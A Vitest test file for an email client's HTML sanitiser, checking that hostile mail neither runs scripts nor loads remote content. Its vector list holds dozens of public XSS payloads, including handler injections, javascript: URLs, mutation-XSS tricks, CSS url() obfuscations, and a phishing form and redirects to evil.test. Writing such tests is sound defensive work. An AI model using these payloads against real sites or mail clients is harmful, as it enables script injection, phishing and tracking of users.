import { describe, expect, it } from 'vitest'
import {
  contentId,
  frameDocument,
  safeStyles,
  sanitiseMail,
  withoutEarlyActs,
  withoutHandlers,
} from '../../../src-renderer/thread/sanitise.ts'

function shown(html: string): Document {
  return new DOMParser().parseFromString(sanitiseMail(html).html, 'text/html')
}

// Public vectors and the ways in which mail differs from a page; each must leave nothing that acts or loads.
const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>',
  '<video src="https://evil.test/v" poster="https://evil.test/p"></video><audio src=//evil.test></audio>',
  '<picture><source srcset="https://evil.test/a"><img srcset="https://evil.test/b 2x"></picture>',
  '<table background="https://evil.test/t"><td background="https://evil.test/d">x</td></table>',
  '<body background="https://evil.test/b" onload=alert(1)>',
  '<input type=image src="https://evil.test/i">',
  '<img src="//evil.test/p">',
  '<img lowsrc="https://evil.test/l" dynsrc="https://evil.test/d">',
  '<a href="https://ok.test" ping="https://evil.test/ping" target=_blank download>x</a>',
  '<div style="background:url(https://evil.test/s)">x</div>',
  '<div style="background-image:u\\72l(https://evil.test/s)">x</div>',
  '<div style="width:expression(alert(1));-moz-binding:url(//evil.test)">x</div>',
  '<style>@import "https://evil.test/i.css"; b{background:url("https://evil.test/b")}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.test/f)}</style>',
  '<style></style><img src=x onerror=alert(1)></style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<div id="body" name="cookie"><form id=documentElement></form></div>',
  '<a id=defaultView href="cid:x">x</a>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
  '<p draggable ondragend=alert(1) contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>',
  '<div popover onbeforetoggle=alert(1)>x</div>',
  '<?xml-stylesheet href="https://evil.test"?><!--><img src=x onerror=alert(1)>-->',
]

describe('hostile mail', () => {
  it.each(vectors)('%s neither runs nor loads', (vector) => {
    const document = shown(vector)
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(
          /^on|^(href|srcset|action|formaction|background|poster|ping|xlink:href|srcdoc)$/i,
        )
        if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpe?g|gif|webp|bmp);base64,/)
        if (name === 'style') expect(value).not.toMatch(/url\s*\(|expression|binding/i)
      }
    expect(
      document.querySelector(
        'script,svg,math,iframe,object,embed,form,input,button,meta,base,link,video,audio,source,template,noscript,body[onload]',
      ),
    ).toBe(null)
    for (const style of document.querySelectorAll('style'))
      expect(style.textContent).not.toMatch(/url\s*\(|@import|@font-face/i)
  })

  it('is sanitised to the same again: what is safe stays as it is', () => {
    for (const vector of vectors) {
      const once = sanitiseMail(vector).html.replaceAll(/ (data-wb-\w+|role|tabindex)="[^"]*"/g, '')
      expect(sanitiseMail(once).html).toBe(once)
    }
  })

  it('can’t bring its own marks for pictures and links', () => {
    const document = shown(
      '<img data-wb-remote="https://evil.test/x" data-wb-inline="y"><a data-wb-target="javascript:alert(1)">x</a>',
    )
    expect(document.body.innerHTML).toBe('<img><a>x</a>')
  })
})

describe('a mail’s pictures', () => {
  it('from outside are listed once and wait without an address', () => {
    const mail = sanitiseMail(
      '<img src="https://a.test/1.png" alt="Logo"><img src="http://b.test/2.png"><img src="https://a.test/1.png">',
    )
    expect(mail.remoteImages).toEqual(['https://a.test/1.png', 'http://b.test/2.png'])
    expect(mail.html).not.toContain(' src=')
    expect(mail.html).toContain('alt="Logo"')
  })

  it('inside the mail are named by their Content-ID', () => {
    expect(sanitiseMail('<img src="cid:photo%40mail"><img src="CID:<b@mail>">').inlineImages).toEqual([
      'photo@mail',
      'b@mail',
    ])
    expect(contentId('cid:bad%')).toBe('bad%')
  })

  it('whose bytes stand in the HTML are shown', () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgo='
    expect(shown(`<img src="${pixel}">`).querySelector('img')?.getAttribute('src')).toBe(pixel)
  })
})

describe('a mail’s links', () => {
  it('keep where they lead, but not as a link', () => {
    const link = shown('<a href="https://bank.test/a?b=1">Account</a>').querySelector('a')
    expect(link?.hasAttribute('href')).toBe(false)
    expect(link?.getAttribute('data-wb-target')).toBe('https://bank.test/a?b=1')
    expect(link?.getAttribute('role')).toBe('link')
    expect(link?.getAttribute('tabindex')).toBe('0')
  })

  it('to other kinds of target are words', () => {
    for (const href of ['#top', '/relative', 'tel:123', 'ftp://x.test/', 'file:///etc/passwd'])
      expect(shown(`<a href="${href}">x</a>`).querySelector('a')?.attributes.length).toBe(0)
  })
})

it('a mail keeps its looks: tables, styles, fonts, colours', () => {
  const html =
    '<html><head><style>.a{color:red}</style></head><body bgcolor="#eee"><table width="600" cellpadding="4"><tbody><tr><td align="center" style="color:#333;font-size:14px" class="a"><font face="Arial">Hi</font></td></tr></tbody></table></body></html>'
  const { html: safe } = sanitiseMail(html)
  expect(safe).toContain('<style>.a{color:red}</style>')
  expect(safe).toContain('<td align="center" style="color:#333;font-size:14px" class="a">')
  expect(safe).toContain('<font face="Arial">Hi</font>')
})

describe('styles', () => {
  it.each([
    'background:url(//evil.test)',
    'background:u\\72l(//evil.test)',
    'background:u\\zrl(//evil.test)',
    'background:ur/**/l(//evil.test)',
    'background:ur<l(//evil.test)',
    'background:URL ( "//evil.test" )',
    'background:image-set("//evil.test" 1x)',
    '@imp@import x;ort "//evil.test";',
    '@import url(//evil.test);',
  ])('%s loses what loads', (css) => {
    expect(safeStyles(css)).not.toMatch(/url\s*\(|image-set|@import/i)
  })

  it('without anything that loads stay as they are', () => {
    const css = '@media (max-width:600px){.a > b{margin:0 auto!important;width:calc(100% - 2px)}}'
    expect(safeStyles(css)).toBe(css)
  })
})

describe('event handlers', () => {
  it('are taken out of tags only', () => {
    expect(withoutHandlers('<p title="turn on=x" onclick=\'a>b\' ONLOAD=x>5 only= 6</p>')).toBe(
      '<p title="turn on=x" data-off=\'a>b\' data-off=x>5 only= 6</p>',
    )
  })

  it('are taken out of tags that stand in another one’s quotes', () => {
    expect(withoutHandlers('<img title="</textarea><img src=x onerror=y>">')).toBe(
      '<img title="</textarea><img src=x data-off=y>">',
    )
  })
})

it('what acts as soon as a parser sees it is gone before', () => {
  expect(
    withoutEarlyActs(
      '<base href="https://a.test/"><p onclick=x>the base <track src=y default><baseline></p>',
    ),
  ).toBe('<wbr href="https://a.test/"><p data-off=x>the base <wbr src=y default><baseline></p>')
})

it('the frame’s own policy allows pictures in the document and inline styles, nothing else', () => {
  const policy = new DOMParser()
    .parseFromString(frameDocument('<p>Hi</p>'), 'text/html')
    .querySelector('meta[http-equiv]')
  expect(policy?.getAttribute('content')).toBe(
    "default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
  )
})
